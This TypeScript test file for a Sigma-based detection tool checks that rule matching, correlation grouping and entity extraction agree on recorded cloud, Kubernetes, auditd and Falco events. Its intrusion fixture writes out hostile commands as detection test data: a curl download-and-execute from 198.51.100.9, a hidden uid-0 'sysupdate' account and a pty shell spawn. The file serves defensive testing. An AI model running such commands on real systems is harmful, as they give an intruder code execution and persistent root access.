/**
 * One reading of a field (issue 9, item 3): what a rule's detection matched on and what ingest groups, routes and
 * names entities by are the same values, through arrays, literal dotted keys and pipeline mappings. "What matching
 * sees" is asked of the matcher itself, with probe rules under the rule's logsource: `field|cased: v` matches when v
 * is one of the values the matcher reads, `field|re: '^'` when it reads any value at all.
 * Events: Stratus Red Team CloudTrail detonations, Falco's recorded Kubernetes audit traces, the Linux scenarios as
 * the procfs poller publishes them, and one intrusion as auditd (decoded from its log lines) and Falco record it.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { eventTimeOf } from '../../src/collect/event-time';
import { correlateOffline, fieldsByReference } from '../../src/correlation';
import { CorrelationRouting } from '../../src/ingest/correlation-routing';
import { DetectionBuilder } from '../../src/ingest/detection-builder';
import { DetectionFields } from '../../src/ingest/detection-fields';
import { EntityMapping } from '../../src/ingest/entity-mapping';
import type { Detection } from '../../src/model/detection';
import { logsourceOf, type Logsource, type SourceKind } from '../../src/model/source';
import { loadRuleSet, parseCorrelationRule, ruleSetFromTexts, type CompiledRule, type CompiledRuleSet } from '../../src/sigma';
import { readEventFile } from '../../src/collect/event-file';
import { fieldReader, type FieldScalar } from '../../src/sigma/field-reader';
import { auditExecLines, decodeAudit, falcoExecAlert } from '../helpers/linux-process-events';
import { scenario } from '../helpers/offline-correlation';
import { runVigil } from '../helpers/vigil-process';
import { falcoTraces, jsonFiles, placeholdersFile, projectRoot, sigmaHqRules, stratusLogs } from '../sigma/corpus-paths';

interface Recorded {
  source: SourceKind;
  data: Record<string, unknown>;
}

/** One intrusion on web-01: download and run (procfs saw it), a uid-0 account (auditd), a pty shell (Falco). */
const intrusion = [
  { exe: '/usr/bin/dash', argv: ['sh', '-c', 'curl -s http://198.51.100.9/l.sh -o /tmp/.l && chmod +x /tmp/.l && /tmp/.l'] },
  { exe: '/usr/sbin/useradd', argv: ['useradd', '-o', '-u', '0', '-g', '0', '-M', '-d', '/root', '-s', '/bin/bash', 'sysupdate'] },
  { exe: '/usr/bin/python3.11', argv: ['python3', '-c', "import pty; pty.spawn('/bin/bash')"] },
];
const at = (i: number) => `2026-12-01T08:0${i}:00.000Z`;
const procfsEvent = (i: number): Record<string, unknown> => ({
  timestamp: at(i), Hostname: 'web-01', ProcessId: 4100 + i, ParentProcessId: 1584, Image: intrusion[i]!.exe, CommandLine: intrusion[i]!.argv.join(' '), User: 'www-data',
});
const auditSeconds = (i: number) => (Date.parse(at(i)) / 1000).toFixed(3);
const auditdEvents = (i: number) => decodeAudit(auditExecLines(intrusion[i]!.argv, intrusion[i]!.exe, 9000 + i, auditSeconds(i)));
const falcoEvent = (i: number, pod?: { ns: string; name: string }) =>
  falcoExecAlert(
    { 'proc.exepath': intrusion[i]!.exe, 'proc.cmdline': intrusion[i]!.argv.join(' '), 'user.name': 'www-data', 'proc.pid': 4100 + i, ...(pod ? { 'k8s.ns.name': pod.ns, 'k8s.pod.name': pod.name } : {}) },
    { time: at(i) },
  );

async function recordedEvents(): Promise<Recorded[]> {
  const fromFiles = async (source: SourceKind, dir: string) =>
    (await Promise.all(jsonFiles(dir).map(async (f) => (await readEventFile(f)).events))).flat().map((data) => ({ source, data: data as Record<string, unknown> }));
  return [
    ...(await fromFiles('cloudtrail', stratusLogs)),
    ...(await fromFiles('k8s_audit', falcoTraces)),
    ...['linux-host-compromise.ndjson', 'k8s-pod-compromise.ndjson'].flatMap((f) => scenario(f)).map((e) => ({ source: e.source, data: e.data })),
    ...intrusion.flatMap((_, i) => auditdEvents(i)).map((data) => ({ source: 'auditd' as const, data })),
    ...intrusion.map((_, i) => ({ source: 'falco' as const, data: falcoEvent(i, { ns: 'shop', name: 'web-7d9f' }) })),
  ];
}

/** A question to the matcher about one field of one event, under a logsource's pipeline. */
interface Probe {
  logsource: Logsource;
  field: string;
  /** Undefined: "does the matcher read any value". */
  value?: FieldScalar;
}

const escapeSigma = (s: string) => s.replace(/[\\*?]/g, '\\$&');

function probeRule(p: Probe, i: number): string {
  const text = p.value === undefined || p.value === null ? undefined : String(p.value);
  // Detection.fields strings are cut at 512 characters: the matcher must read a value starting so.
  const item = text === undefined ? { [`${p.field}|re`]: '^' } : { [`${p.field}|cased${text.length === 512 ? '|startswith' : ''}`]: escapeSigma(text) };
  return stringify({ title: 'probe', id: `probe-${i}`, logsource: p.logsource, detection: { sel: item, condition: 'sel' }, level: 'low' });
}

/** For each probe, whether the matcher reads that value (or any value) of its field in `event`. */
function matcherSees(event: unknown, probes: readonly Probe[]): boolean[] {
  const { ruleSet, errors } = ruleSetFromTexts([{ file: 'probes.yml', text: probes.map(probeRule).join('---\n') }]);
  expect(errors).toEqual([]);
  const hit = new Set(ruleSet.matchSelected(event, 'all').map((r) => r.ref.id));
  return probes.map((_, i) => hit.has(`probe-${i}`));
}

/** The fields a rule's detection names (keyword searches name none). */
function ruleFields(rule: CompiledRule): string[] {
  const names = new Set<string>();
  const visit = (search: unknown): void => {
    if (Array.isArray(search)) search.forEach(visit);
    else if (search !== null && typeof search === 'object') for (const key of Object.keys(search)) if (key.split('|')[0]) names.add(key.split('|')[0]!);
  };
  for (const [name, search] of Object.entries(rule.rule.detection)) if (name !== 'condition') visit(search);
  return [...names];
}

/** A correlation over one rule grouping by the given fields: DetectionFields then reads them as ingest would. */
function groupingBy(rule: CompiledRule, fields: string[], n: number) {
  const doc = { title: `by fields ${n}`, id: `by-fields-${n}`, correlation: { type: 'event_count', rules: [rule.ref.id], 'group-by': fields, timespan: '1h', condition: { gte: 1 } } };
  return parseCorrelationRule(doc, () => ({ file: 'grouping.yml' }));
}

const pipelineMapped = (logsource: Logsource, field: string) => fieldReader(logsource, field).source.key !== `path:${field}`;

describe('matching and grouping read the same values of every field, on recorded events', () => {
  let ruleSet: CompiledRuleSet;
  let events: Recorded[];
  let entities: EntityMapping;
  let builder: DetectionBuilder;
  let byRuleFields: DetectionFields;

  beforeAll(async () => {
    const loaded = await loadRuleSet(
      [
        ...['cloud/aws/cloudtrail', 'application/kubernetes', 'linux/process_creation', 'linux/auditd'].map((d) => join(sigmaHqRules, 'rules', d)),
        join(projectRoot, 'rules', 'sigma'),
        join(projectRoot, 'rules', 'correlations'),
      ],
      { placeholdersFile },
    );
    expect(loaded.errors).toEqual([]);
    ruleSet = loaded.ruleSet;
    events = await recordedEvents();
    entities = EntityMapping.fromFile(join(projectRoot, 'rules', 'entities', 'entities.yml'));
    const routing = new CorrelationRouting(ruleSet.version, ruleSet.correlations, entities);
    builder = new DetectionBuilder(entities, routing, new DetectionFields(ruleSet.correlations, ruleSet.rules));
    const withFields = ruleSet.rules.filter((r) => ruleFields(r).length > 0);
    byRuleFields = new DetectionFields(withFields.map((r, n) => groupingBy(r, ruleFields(r), n)), ruleSet.rules);
  });

  test('every field a matched rule uses, and every group-by and condition field of the correlations over it', () => {
    const mismatches: unknown[] = [];
    const seen = { checks: 0, mapped: 0, multiValued: 0, correlationChecks: 0 };
    events.forEach((e, index) => {
      const matched = ruleSet.matchRules(e.data, e.source);
      if (matched.length === 0) return;
      const detection = builder.build('acme', e.source, { id: `ev${index}`, time: 0, data: e.data }, matched.map((r) => r.ref), ruleSet.version);
      const checks: Array<{ rule: CompiledRule; field: string; grouped: FieldScalar | undefined }> = [];
      for (const rule of matched) {
        const grouped = byRuleFields.read(e.source, e.data, [rule.ref]);
        for (const field of ruleFields(rule)) checks.push({ rule, field, grouped: grouped[field] });
        const consumed = fieldsByReference(ruleSet.correlations).filter((f) => f.ref === rule.ref.id || f.ref === rule.ref.name);
        for (const { path } of consumed) checks.push({ rule, field: path, grouped: detection.fields[path] });
        seen.correlationChecks += consumed.length;
      }
      const probes = checks.flatMap(({ rule, field, grouped }): Probe[] => [
        { logsource: rule.logsource, field },
        ...(grouped === undefined || grouped === null ? [] : [{ logsource: rule.logsource, field, value: grouped }]),
      ]);
      const sees = matcherSees(e.data, probes);
      let p = 0;
      for (const { rule, field, grouped } of checks) {
        const readsAny = sees[p++]!;
        const hasValue = grouped !== undefined && grouped !== null;
        const readsGrouped = hasValue ? sees[p++]! : true;
        if (readsAny !== hasValue || !readsGrouped) mismatches.push({ event: index, source: e.source, rule: rule.ref.id, field, grouped, readsAny, readsGrouped });
        seen.checks++;
        if (pipelineMapped(rule.logsource, field)) seen.mapped++;
        if (fieldReader(rule.logsource, field).values(e.data).length > 1) seen.multiValued++;
      }
    });
    expect(mismatches).toEqual([]);
    // The corpus exercises what the issue is about: mapped fields, several values, correlation fields.
    expect(seen.mapped).toBeGreaterThan(0);
    expect(seen.multiValued).toBeGreaterThan(0);
    expect(seen.correlationChecks).toBeGreaterThan(0);
  });

  test('every entity field of rules/entities, on every event of its source', () => {
    const spec = parse(readFileSync(join(projectRoot, 'rules', 'entities', 'entities.yml'), 'utf8')) as Partial<
      Record<SourceKind, Array<{ type: string; id: string; when?: Record<string, string | number | boolean> }>>
    >;
    const mismatches: unknown[] = [];
    let extracted = 0;
    events.forEach((e, index) => {
      const logsource = logsourceOf[e.source];
      const mappings = spec[e.source] ?? [];
      const fields = [...new Set(mappings.flatMap((m) => [...m.id.matchAll(/\{([^}]+)\}/g)].map((x) => x[1]!)))];
      const values = new Map(fields.map((f) => [f, fieldReader(logsource, f).scalar(e.data)]));
      const conditions = mappings.flatMap((m) => Object.entries(m.when ?? {}));
      const probes: Probe[] = [
        ...fields.map((field) => ({ logsource, field })),
        ...fields.flatMap((field) => (values.get(field) === undefined || values.get(field) === null ? [] : [{ logsource, field, value: values.get(field)! }])),
        ...conditions.map(([field, value]) => ({ logsource, field, value })),
      ];
      const sees = matcherSees(e.data, probes);
      const readsAny = new Map(fields.map((f, i) => [f, sees[i]!]));
      let p = fields.length;
      for (const f of fields) {
        const v = values.get(f);
        const hasValue = v !== undefined && v !== null;
        if (readsAny.get(f) !== hasValue || (hasValue && !sees[p++])) mismatches.push({ event: index, source: e.source, field: f, value: v });
      }
      const holds = new Map(conditions.map(([field, value], i) => [`${field}=${String(value)}`, sees[p + i]!]));
      const expected = mappings.flatMap((m) => {
        if (!Object.entries(m.when ?? {}).every(([field, value]) => holds.get(`${field}=${String(value)}`))) return [];
        // split with a capture group: literal text at even indexes, field names at odd ones
        const parts = m.id.split(/\{([^}]+)\}/).map((part, i) => (i % 2 === 0 ? part : values.get(part)));
        const complete = parts.every((v, i) => i % 2 === 0 || (v !== undefined && v !== null && v !== ''));
        return complete ? [{ type: m.type, id: parts.map(String).join('') }] : [];
      });
      const actual = entities.extract(e.source, e.data);
      extracted += actual.length;
      if (JSON.stringify(actual) !== JSON.stringify(expected.filter((x, i) => expected.findIndex((y) => y.type === x.type && y.id === x.id) === i))) {
        mismatches.push({ event: index, source: e.source, actual, expected });
      }
    });
    expect(mismatches).toEqual([]);
    expect(extracted).toBeGreaterThan(events.length);
  });
});

describe('where the two readings used to differ', () => {
  const rulesRoot = join(projectRoot, 'rules');
  let ruleSet: CompiledRuleSet;
  let builder: DetectionBuilder;

  beforeAll(async () => {
    const loaded = await loadRuleSet([join(rulesRoot, 'sigma'), join(rulesRoot, 'correlations')], { placeholdersFile });
    expect(loaded.errors).toEqual([]);
    ruleSet = loaded.ruleSet;
    const entities = EntityMapping.fromFile(join(rulesRoot, 'entities', 'entities.yml'));
    builder = new DetectionBuilder(entities, new CorrelationRouting(ruleSet.version, ruleSet.correlations, entities), new DetectionFields(ruleSet.correlations, ruleSet.rules));
  });

  const detect = (source: SourceKind, data: Record<string, unknown>, id: string): Detection[] => {
    const rules = ruleSet.match(data, source);
    return rules.length === 0 ? [] : [builder.build('acme', source, { id, time: eventTimeOf(source, data, 0), data }, rules, ruleSet.version)];
  };

  test('a correlation grouped by a mapped field (Hostname) gets the process starts auditd and Falco saw: the intrusion chain fires on one host', () => {
    const detections = [
      ...detect('process', procfsEvent(0), 'procfs-0'),
      ...auditdEvents(1).flatMap((data, n) => detect('auditd', data, `auditd-1-${n}`)),
      ...detect('falco', falcoEvent(2), 'falco-2'),
    ];
    expect(detections.map((d) => [d.eventId, d.fields['Hostname'], d.entities.find((x) => x.type === 'host')?.id])).toEqual([
      ['procfs-0', 'web-01', 'web-01'],
      ['auditd-1-1', 'web-01', 'web-01'], // the EXECVE record; its SYSCALL, CWD, PATH, PROCTITLE siblings are no process start
      ['falco-2', 'web-01', 'web-01'],
    ]);
    const chain = correlateOffline(ruleSet.correlations, detections).filter((h) => h.rule.name === 'proc_creation_lnx_intrusion_chain');
    // useradd -u 0 matches two of the chain's persistence rules, so its event is listed once per rule.
    expect(chain.map((h) => [h.group, [...new Set(h.eventIds)]])).toEqual([[{ Hostname: 'web-01' }, ['procfs-0', 'auditd-1-1', 'falco-2']]]);
  });

  test('`vigil rules eval` groups auditd events by the process_creation name the rules matched on', () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-eval-fields-'));
    const file = join(dir, 'audit.ndjson');
    writeFileSync(file, [0, 1, 2].flatMap(auditdEvents).map((e) => JSON.stringify(e)).join('\n') + '\n');
    const run = runVigil(['rules', 'eval', '--rules', rulesRoot, '--events', file, '--source', 'auditd', '--id-field', 'msg'], {});
    expect(run.status).toBe(0);
    const chain = run.stdout.split('\n').filter((l) => l.includes('proc_creation_lnx_intrusion_chain')).map((l) => JSON.parse(l) as { type: string; group: unknown; events: string[] });
    expect(chain.filter((h) => h.type === 'correlation').map((h) => [h.group, [...new Set(h.events)]])).toEqual([
      [{ Hostname: 'web-01' }, [0, 1, 2].map((i) => `audit(${auditSeconds(i)}:${9000 + i})`)],
    ]);
  });

  test('entity ids from a field inside an array and from literal dotted keys (Falco pods)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-entities-'));
    writeFileSync(join(dir, 'entities.yml'), 'cloudtrail:\n  - type: host\n    id: "{requestParameters.instancesSet.items.instanceId}"\n');
    const byInstance = EntityMapping.fromFile(join(dir, 'entities.yml'));
    const started = readStratus('aws.execution.ec2-user-data.json').find((r) => r['eventName'] === 'StartInstances')!;
    const items = (started['requestParameters'] as { instancesSet: { items: Array<{ instanceId: string }> } }).instancesSet.items;
    expect(byInstance.extract('cloudtrail', started)).toEqual([{ type: 'host', id: items[0]!.instanceId }]);
    const shipped = EntityMapping.fromFile(join(rulesRoot, 'entities', 'entities.yml'));
    expect(shipped.extract('falco', falcoEvent(2, { ns: 'shop', name: 'web-7d9f' }))).toEqual([
      { type: 'host', id: 'web-01' },
      { type: 'pod', id: 'shop/web-7d9f' },
    ]);
  });

  test('a keyed correlation grouped by a mapped k8s field (apiGroup) or a field inside an array routes and groups by the value matching read', () => {
    const rules = [
      'title: rbac write\nid: rbac-write\nlogsource: {product: kubernetes, service: audit}\ndetection:\n  sel:\n    verb: create\n    apiGroup: rbac.authorization.k8s.io\n  condition: sel\nlevel: low\n',
      'title: instance power\nid: instance-power\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventName: [StartInstances, StopInstances]\n  condition: sel\nlevel: low\n',
      'title: rbac writes per api group\nid: by-api-group\ncorrelation:\n  type: event_count\n  rules: [rbac-write]\n  group-by: [apiGroup]\n  timespan: 1h\n  condition: {gte: 1}\n',
      'title: power cycles per instance\nid: by-instance\ncorrelation:\n  type: event_count\n  rules: [instance-power]\n  group-by: [requestParameters.instancesSet.items.instanceId]\n  timespan: 1h\n  condition: {gte: 2}\n',
    ];
    const { ruleSet: own, errors } = ruleSetFromTexts(rules.map((text, i) => ({ file: `r${i}.yml`, text })));
    expect(errors).toEqual([]);
    const entities = EntityMapping.fromFile(join(rulesRoot, 'entities', 'entities.yml'));
    const keyed = new DetectionBuilder(entities, new CorrelationRouting(own.version, own.correlations, entities), new DetectionFields(own.correlations, own.rules));
    const build = (source: SourceKind, data: Record<string, unknown>, id: string) => {
      const matched = own.match(data, source);
      return matched.length === 0 ? [] : [keyed.build('acme', source, { id, time: eventTimeOf(source, data, 0), data }, matched, own.version)];
    };
    const binding = readFileSync(join(falcoTraces, 'create_clusterrolebinding.json'), 'utf8');
    const k8s = build('k8s_audit', JSON.parse(binding) as Record<string, unknown>, 'k8s-0');
    expect(k8s.map((d) => [d.fields['apiGroup'], d.entities.filter((x) => x.type === 'group')])).toEqual([
      ['rbac.authorization.k8s.io', [{ type: 'group', id: 'by-api-group|rbac.authorization.k8s.io' }]],
    ]);
    const power = readStratus('aws.execution.ec2-user-data.json').flatMap((r, i) => build('cloudtrail', r, `ct-${i}`));
    const instance = 'requestParameters.instancesSet.items.instanceId';
    expect(power.length).toBeGreaterThanOrEqual(2);
    for (const d of power) expect(d.entities).toContainEqual({ type: 'group', id: `by-instance|${String(d.fields[instance])}` });
    const hits = correlateOffline(own.correlations, [...k8s, ...power]);
    expect(hits.map((h) => [h.rule.id, h.group]).sort()).toEqual(
      [['by-api-group', { apiGroup: 'rbac.authorization.k8s.io' }], ...[...new Set(power.map((d) => String(d.fields[instance])))].map((v) => ['by-instance', { [instance]: v }])].sort(),
    );
  });

  test("event time from Falco's literal `evt.time` key when the alert has no `time`", () => {
    const { time: _time, ...alert } = falcoEvent(0);
    const ns = 1_764_576_185_312_000_000;
    expect(eventTimeOf('falco', { ...alert, output_fields: { ...(alert['output_fields'] as object), 'evt.time': ns } }, 42)).toBe(1_764_576_185_312);
  });
});

function readStratus(file: string): Record<string, unknown>[] {
  return JSON.parse(readFileSync(join(stratusLogs, file), 'utf8')) as Record<string, unknown>[];
}
